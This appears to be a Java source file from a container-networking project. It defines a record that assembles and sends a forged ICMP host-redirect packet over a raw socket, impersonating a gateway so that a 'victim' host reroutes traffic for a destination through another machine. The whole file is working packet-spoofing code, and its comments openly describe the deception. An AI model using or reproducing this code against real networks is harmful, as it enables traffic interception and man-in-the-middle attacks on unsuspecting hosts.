package containers.bridge;

import containers.addresses.Ipv4Address;
import containers.rtnetlink.MacAddress;
import java.nio.ByteBuffer;

/**
 * A message of the gateway's, which somebody else sends: there is a shorter way, icmp(7). It takes a raw socket, packet(7), and
 * nobody's MAC address but one's own.
 *
 * @param gateway whose message it seems to be
 * @param victim who is to believe it
 * @param destination where the way leads to
 * @param sender who is to be on that way
 */
record Redirect(Ipv4Address gateway, Ipv4Address victim, Ipv4Address destination, Ipv4Address sender) {

    private static final short ETH_P_IP = 0x0800;
    private static final int IP_HEADER = 20;
    private static final int ICMP = 16 + IP_HEADER;

    /** Sends it by that interface of this thread's network. */
    void sendBy(int index) {
        RawFrame.send(index, frame());
    }

    private byte[] frame() {
        ByteBuffer frame = ByteBuffer.allocate(14 + IP_HEADER + ICMP);
        frame.put(new MacAddress(victim).bytes())
                .put(new MacAddress(sender).bytes())
                .putShort(ETH_P_IP);
        frame.put(header(gateway, victim, ICMP)).put(message());
        return frame.array();
    }

    /** For packets like this answer to a ping, which the victim seems to have sent. */
    private byte[] message() {
        ByteBuffer message = ByteBuffer.allocate(ICMP);
        message.putShort((short) 0x0501).putShort((short) 0).putInt(sender.bits());
        message.put(header(victim, destination, 8)).putLong(0);
        return message.putShort(2, checksum(message)).array();
    }

    private static byte[] header(Ipv4Address from, Ipv4Address to, int length) {
        ByteBuffer header = ByteBuffer.allocate(IP_HEADER);
        header.putShort((short) 0x4500).putShort((short) (IP_HEADER + length)).putInt(0);
        header.put((byte) 64)
                .put((byte) 1)
                .putShort((short) 0)
                .putInt(from.bits())
                .putInt(to.bits());
        return header.putShort(10, checksum(header)).array();
    }

    static short checksum(ByteBuffer words) {
        int sum = 0;
        for (int i = 0; i < words.capacity(); i += 2) {
            sum += words.getShort(i) & 0xffff;
        }
        return (short) ~((sum & 0xffff) + (sum >>> 16));
    }
}
